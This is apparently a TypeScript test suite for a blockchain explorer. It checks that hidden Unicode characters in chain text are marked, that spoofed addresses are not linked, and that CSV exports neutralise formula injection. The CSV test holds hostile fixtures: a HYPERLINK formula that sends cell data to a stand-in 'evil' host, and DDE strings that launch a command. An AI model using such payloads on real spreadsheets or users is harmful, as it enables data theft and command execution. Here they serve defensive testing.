/**
 * The explorer's pure text functions, loaded from src through Vite's SSR loader (the browser code is
 * TypeScript only Vite compiles): what chain or node text becomes on the page and in the CSV export.
 * No browser; the Vite server is closed at the end.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import type { ViteDevServer } from 'vite';

const EXPLORER_DIR = fileURLToPath(new URL('../../', import.meta.url));

interface Format {
  visibleText: (text: string, max?: number) => string;
  CHAIN_TEXT_MAX: number;
}
interface History {
  accountCsv: (self: string, rows: unknown[]) => string;
}
interface Actions {
  transferredAmount: (tx: unknown) => bigint;
  ActionItem: (props: { action: unknown; index: number }) => unknown;
  ActionsSummary: (props: { tx: unknown }) => unknown;
}
interface Poci {
  shortChip: (chipId: string) => string;
  minerHints: (chips: unknown[], p: unknown) => unknown[];
}
interface Ui {
  ChainText: (props: { text: string; lines?: boolean }) => unknown;
  AddrLink: (props: { address: string; short?: boolean; self?: string }) => unknown;
}
interface Chips {
  SlotStrip: (props: { slots: unknown[] }) => unknown;
  ChipStatusBadge: (props: { chip: unknown }) => unknown;
  HintList: (props: { hints: unknown[] }) => unknown;
}
interface Market {
  LeaseStatus: (props: { lease: unknown }) => unknown;
  LeasesTable: (props: { leases: unknown[]; now: number; empty: string; testId?: string }) => unknown;
}
interface ReactServer {
  renderToString: (el: unknown) => string;
}
interface ReactMod {
  createElement: (type: unknown, props: unknown) => unknown;
}

/** What must never reach the page as is: it draws nothing, moves the line, or turns text around. */
const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}\p{Default_Ignorable_Code_Point}]/u;

/** Any code point, with lone surrogates, combining marks and bidi controls made likely. */
const CHAR = fc.oneof(
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  fc.constantFrom('\uD83D', '\uDE00', '\u0301', '\u0316', '\u202E', '\u2029', '⟨', '⟩'),
);

const SELF = 'unc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqs3lf';

describe('chain text and the CSV export', () => {
  let server: ViteDevServer;
  let format: Format;
  let history: History;
  let actions: Actions;
  let poci: Poci;
  let market: Market;
  let ui: Ui;
  let chips: Chips;
  let reactServer: ReactServer;
  let react: ReactMod;

  before(async () => {
    const { createServer } = await import('vite');
    server = await createServer({
      root: EXPLORER_DIR,
      configFile: `${EXPLORER_DIR}vite.config.ts`,
      logLevel: 'warn',
      appType: 'custom',
      server: { middlewareMode: true, hmr: false },
      optimizeDeps: { noDiscovery: true, include: [] },
    });
    format = (await server.ssrLoadModule('/src/format.ts')) as Format;
    history = (await server.ssrLoadModule('/src/account-history.ts')) as History;
    actions = (await server.ssrLoadModule('/src/components/actions.tsx')) as Actions;
    poci = (await server.ssrLoadModule('/src/poci.ts')) as Poci;
    market = (await server.ssrLoadModule('/src/components/market.tsx')) as Market;
    ui = (await server.ssrLoadModule('/src/components/ui.tsx')) as Ui;
    chips = (await server.ssrLoadModule('/src/components/chips.tsx')) as Chips;
    // The same React the SSR-loaded module gets: Vite leaves packages to Node.
    reactServer = (await import('react-dom/server')) as unknown as ReactServer;
    react = (await import('react')) as unknown as ReactMod;
  });

  after(async () => {
    await server?.close();
  });

  test('visibleText: nothing hidden, no more than four marks on a letter, bounded, whatever the input', () => {
    fc.assert(
      fc.property(fc.string({ unit: CHAR, maxLength: 300 }), fc.integer({ min: 20, max: 400 }), (s, max) => {
        const out = format.visibleText(s, max);
        assert.doesNotMatch(out, HIDDEN);
        assert.doesNotMatch(out, /\p{M}{5}/u);
        assert.ok(out.length <= max + 1, `${out.length} > ${max} + "…"`);
      }),
      { numRuns: 2000 },
    );
  });

  test('visibleText: a cut never leaves half a code point', () => {
    const rlo = '\u202E';
    for (let max = 1; max < 30; max++) {
      const out = format.visibleText(`${rlo.repeat(5)}😀😀😀`.repeat(4), max);
      assert.ok(out.endsWith('…'));
      assert.doesNotMatch(out.slice(0, -1), /⟨[^⟩]*$/, `max ${max}: ${out}`);
      assert.doesNotMatch(out, /[\uD800-\uDBFF](?![\uDC00-\uDFFF])/, `max ${max}: lone high surrogate`);
    }
    assert.equal(format.visibleText('plain text'), 'plain text');
    assert.equal(format.visibleText('x'.repeat(format.CHAIN_TEXT_MAX)), 'x'.repeat(format.CHAIN_TEXT_MAX));
  });

  /** ChainText as HTML, React's text separators left out. */
  const chainHtml = (text: string, lines = false) =>
    reactServer.renderToString(react.createElement(ui.ChainText, { text, lines })).replace(/<!-- -->/g, '');
  /** The code points ChainText marks as hidden (its styled elements), in order. */
  const markers = (html: string) =>
    [...html.matchAll(/<span class="hidden-char"[^>]*>(U\+[0-9A-F]+)<\/span>/g)].map((m) => m[1]);

  test('a hidden character is an element no chain text can draw: look-alike brackets stay plain text', () => {
    const real = chainHtml('pay\u202E1000');
    assert.deepEqual(markers(real), ['U+202E']);
    assert.match(real, /role="img" aria-label="hidden character U\+202E"/);
    // What the old display drew for U+202E, typed in look-alike brackets (and the real ones): text.
    for (const forged of [
      'pay〈U+202E〉1000',
      'pay⟨U+202E⟩1000',
      'pay‹U+202E›1000',
      'pay<U+202E>1000',
      'payU+202E1000',
    ]) {
      const html = chainHtml(forged);
      assert.deepEqual(markers(html), [], forged);
      assert.doesNotMatch(html, /hidden-char/, forged);
    }
  });

  test('ChainText: markers are exactly the hidden characters, and no hidden character is drawn (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: CHAR, maxLength: 200 }), (s) => {
        const html = chainHtml(s);
        const text = html
          .replace(/<span class="hidden-char"[^>]*>U\+[0-9A-F]+<\/span>/g, '')
          .replace(/<[^>]*>/g, '');
        assert.doesNotMatch(text, HIDDEN);
        // What may be marked: a hidden character, or a combining mark past the fourth in a row (they
        // stack over the lines above and below).
        let hidden = 0;
        let run = 0;
        for (const c of Array.from(s)) {
          run = /\p{M}/u.test(c) ? run + 1 : 0;
          if (HIDDEN.test(c) || c === '\u2800' || run > 4) hidden++;
        }
        assert.ok(markers(html).length <= hidden, 'a marker for a character that is not hidden');
        if (!Array.from(s).some((c) => HIDDEN.test(c) || c === '\u2800' || /\p{M}/u.test(c)))
          assert.equal(markers(html).length, 0);
      }),
      { numRuns: 1000, examples: [['\u0316\u0316\u0316\u0301\u0301']] },
    );
  });

  test('well-formed emoji sequences are drawn; a lone or misplaced ZWJ or variation selector is marked', () => {
    for (const emoji of [
      '👩\u200D💻',
      '🏳\uFE0F\u200D🌈',
      '👍🏽',
      '❤\uFE0F',
      '1\uFE0F\u20E3',
      '👨\u200D👩\u200D👧',
      '🧑🏽\u200D🚀',
    ]) {
      const html = chainHtml(`gm ${emoji}!`);
      assert.deepEqual(markers(html), [], emoji);
      assert.ok(html.includes(emoji), emoji);
    }
    const cases: Array<[string, string[]]> = [
      ['a\u200Db', ['U+200D']],
      ['👩\u200D', ['U+200D']],
      ['\u200D💻', ['U+200D']],
      ['👩\u200D\u200D💻', ['U+200D', 'U+200D']],
      ['a\uFE0F', ['U+FE0F']],
      ['\uFE0F', ['U+FE0F']],
      // A selector after a digit draws nothing unless a keycap follows: "10️00" looks like "1000".
      ['10\uFE0F00', ['U+FE0F']],
      ['x\uFE0F\u200D🌈', ['U+FE0F', 'U+200D']],
    ];
    for (const [text, want] of cases) assert.deepEqual(markers(chainHtml(text)), want, JSON.stringify(text));
  });

  test('no grapheme cluster drawn is longer than 16 code points: a line can always break (property)', () => {
    const segmenter = new Intl.Segmenter(undefined, { granularity: 'grapheme' });
    /** The longest cluster, in code points, of the text ChainText draws between break opportunities. */
    const longestCluster = (html: string) => {
      let longest = 0;
      for (const piece of html
        .split(/<wbr\/>|<span class="hidden-char"[^>]*>U\+[0-9A-F]+<\/span>|<br\/>/)
        .map((p) => p.replace(/<[^>]*>/g, '').replace(/&amp;/g, '&')))
        for (const g of segmenter.segment(piece)) longest = Math.max(longest, Array.from(g.segment).length);
      return longest;
    };
    for (const glued of [
      Array(300).fill('👩').join('\u200D'),
      `👍${'🏽'.repeat(300)}`,
      '\u1100'.repeat(500),
      `a${'\u0301\u1100'.repeat(50)}`,
    ]) {
      const html = chainHtml(glued);
      assert.ok(longestCluster(html) <= 16, `${longestCluster(html)} code points in one cluster`);
    }
    // Well-formed sequences keep their cluster whole.
    assert.doesNotMatch(chainHtml('👩\u200D❤\uFE0F\u200D💋\u200D👨 🏴\u{E0067}'), /<wbr/);
    const GLUE = fc.constantFrom('👩', '\u200D', '🏽', '\u1100', '\u1161', '\u0301', '\uFE0F', 'a', ' ');
    fc.assert(
      fc.property(fc.string({ unit: fc.oneof(CHAR, GLUE, GLUE), maxLength: 400 }), (s) => {
        assert.ok(longestCluster(chainHtml(s)) <= 16);
      }),
      { numRuns: 500 },
    );
  });

  test('a memo breaks its lines at LF and CR LF; other line and paragraph breaks are marked', () => {
    assert.equal(markers(chainHtml('one\ntwo\r\nthree', true)).length, 0);
    assert.equal(chainHtml('one\ntwo\r\nthree', true).match(/<br\/>/g)?.length, 2);
    assert.deepEqual(markers(chainHtml('one\rtwo\u2028three\u2029', true)), ['U+000D', 'U+2028', 'U+2029']);
    // Not a memo: a line feed is a hidden character like any other.
    assert.deepEqual(markers(chainHtml('one\ntwo')), ['U+000A']);
  });

  test("an address a node sends (a chip's owner or heartbeat operator) that is not one is chain text, not a link", () => {
    const addr = (address: string, self?: string) =>
      reactServer
        .renderToString(
          react.createElement(ui.AddrLink, { address, short: false, ...(self ? { self } : {}) }),
        )
        .replace(/<!-- -->/g, '');
    // A real address: a link to its page, as before.
    assert.match(addr(SELF), new RegExp(`<a class="mono" href="[^"]*${SELF}"`));
    // An override inside it would show another address than the one linked (the owner's own, say).
    for (const spoof of [`${SELF.slice(0, 20)}\u202E${SELF.slice(20)}`, `${SELF}\u200B`]) {
      const html = addr(spoof);
      assert.doesNotMatch(html, HIDDEN, 'a hidden character reached the page as is');
      assert.equal(markers(html).length, 1);
      assert.doesNotMatch(html, /<a /, 'a non-address became a link');
      assert.doesNotMatch(addr(spoof, spoof), HIDDEN, "as the page's own account, it reached the page as is");
    }
  });

  test('a status word a node sends is one the explorer knows, or chain text: no class name, no hidden character', () => {
    const known = reactServer.renderToString(
      react.createElement(market.LeaseStatus, {
        lease: { status: 'active', closedReason: null, closingReason: null },
      }),
    );
    assert.match(known, />active</);
    const hostile = reactServer.renderToString(
      react.createElement(market.LeaseStatus, {
        lease: { status: 'act\u202Eive', closedReason: null, closingReason: null },
      }),
    );
    assert.deepEqual(markers(hostile.replace(/<!-- -->/g, '')), ['U+202E']);
    const slots = reactServer.renderToString(
      react.createElement(chips.SlotStrip, {
        slots: [{ slot: 0, epoch: 1, height: 5, windowEnd: 9, status: 'answered hidden-char' }],
      }),
    );
    assert.match(slots, /class="slot-dot slot-unknown /);
    // A status named like an object's own property is a word from the node, not the property.
    const proto = reactServer.renderToString(
      react.createElement(chips.SlotStrip, {
        slots: [{ slot: 0, epoch: 1, height: 5, windowEnd: 9, status: 'constructor' }],
      }),
    );
    assert.match(proto, /by block 5: constructor"/);
    assert.doesNotMatch(slots, /class="[^"]*answered/);
  });

  test("a chip's revocation reason (chain text) is shown with its hidden characters marked: badge tooltip, miner hints", () => {
    const chip = (status: string) => ({
      chipId: 'c0'.repeat(32),
      status,
      statusReason: `stolen\u202E0001`,
      online: false,
      consecutiveMisses: 0,
      lastAnsweredAt: 0,
      registeredAt: 1,
    });
    for (const status of ['revoked', 'deregistered']) {
      const badge = reactServer.renderToString(
        react.createElement(chips.ChipStatusBadge, { chip: chip(status) }),
      );
      assert.doesNotMatch(badge, /\u202E/, status);
      assert.match(badge, /title="stolen⟨U\+202E⟩0001"/, status);
      const hints = poci.minerHints([chip(status)], {
        epochBlocks: 100,
        slotsPerEpoch: 4,
        answerWindowBlocks: 5,
        offlineAfterMisses: 3,
      });
      const html = reactServer
        .renderToString(react.createElement(chips.HintList, { hints }))
        .replace(/<!-- -->/g, '');
      assert.doesNotMatch(html, /\u202E/, status);
      assert.deepEqual(markers(html), ['U+202E'], status);
    }
  });

  test("an action's type and its field names a node answers are chain text: hidden characters marked", () => {
    const action = { type: 'note\u202EFiled', 'pay\u200Bee': 'x' };
    const item = reactServer
      .renderToString(react.createElement(actions.ActionItem, { action, index: 0 }))
      .replace(/<!-- -->/g, '');
    assert.doesNotMatch(item, /[\u202E\u200B]/);
    assert.deepEqual(markers(item), ['U+202E', 'U+200B']);
    const summary = reactServer
      .renderToString(react.createElement(actions.ActionsSummary, { tx: { actions: [action] } }))
      .replace(/<!-- -->/g, '');
    assert.deepEqual(markers(summary), ['U+202E']);
  });

  test('the CSV export: a field a node chose cannot start a spreadsheet formula', () => {
    const row = {
      hash: '=HYPERLINK("http://evil/?"&A1,"refund")',
      height: 1,
      index: 0,
      time: '@SUM(1+1)*cmd|"/C calc"!A0',
      tx: {
        from: SELF,
        nonce: '+1+cmd|"/C calc"!A0',
        fee: '-2+3',
        chainId: 'unc-devnet',
        actions: [{ type: '=1+1' }, { type: 'transfer', to: '\t=1+1', amount: '5' }],
      },
    };
    const csv = history.accountCsv(SELF, [row]);
    const [, line] = csv.trim().split('\n');
    // A quoted field's first character is after the quote.
    const fields = (line ?? '').match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((f) => f.replace(/,$/, ''));
    for (const f of fields) assert.doesNotMatch(f.replace(/^"/, ''), /^[=+\-@\t\r]/, `formula field: ${f}`);
    // Plain numbers are still numbers.
    assert.match(line ?? '', /,5,/);
  });

  test('an amount a node answers that is not a number does not throw (the page would go blank)', () => {
    const tx = { from: SELF, actions: [{ type: 'transfer', to: SELF, amount: 'lots' }] };
    assert.equal(actions.transferredAmount(tx), 0n);
    const row = { hash: 'ab'.repeat(32), height: 1, index: 0, time: '', tx: { ...tx, nonce: '1', fee: '1' } };
    assert.doesNotThrow(() => history.accountCsv(SELF, [row]));
  });

  test('a chip is named by 8 + 6 hex digits: 32 bits could be ground to look like another chip', () => {
    const id = `0123456789${'ab'.repeat(24)}cdef01`;
    assert.equal(poci.shortChip(id), '01234567…cdef01');
  });

  test('a lease list shows its first 100 (newest first, as the page orders them) and a way to see more', () => {
    const lease = (i: number) => ({
      id: i.toString(16).padStart(64, '0'),
      chipId: 'cc'.repeat(32),
      offerId: 'dd'.repeat(32),
      renter: SELF,
      provider: SELF,
      pricePerHour: '1',
      paid: '0',
      refunded: '0',
      remaining: '1',
      status: 'open',
      startHeight: i,
      startTime: i,
      endTime: 0,
    });
    const leases = Array.from({ length: 250 }, (_, i) => lease(250 - i));
    const html = reactServer.renderToString(
      react.createElement(market.LeasesTable, { leases, now: 0, empty: 'none', testId: 'leases' }),
    );
    assert.equal(html.match(/data-lease="/g)?.length, 100);
    assert.match(html, new RegExp(`data-lease="${lease(250).id}"`));
    assert.match(html.replace(/<!-- -->/g, ''), /data-testid="leases-more"[^>]*>Show 100 more of 150</);
  });
});
